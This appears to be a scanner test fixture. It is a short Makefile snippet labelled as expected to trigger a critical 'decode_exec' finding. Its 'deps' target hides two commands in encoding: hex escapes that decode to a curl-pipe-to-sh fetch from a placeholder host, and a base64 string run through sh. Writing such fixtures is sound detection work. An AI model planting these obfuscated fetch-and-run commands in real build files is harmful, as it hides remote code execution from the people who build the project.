# expect: shell.decode_exec critical
# note: make's $$ is the shell's $; printf of \x escapes into sh
# path: build.mk
deps:
	printf '\x63\x75\x72\x6c\x20\x2d\x73\x20\x78\x7c\x73\x68' | sh
	sh -c "$$(echo aWQ= | base64 -d)"
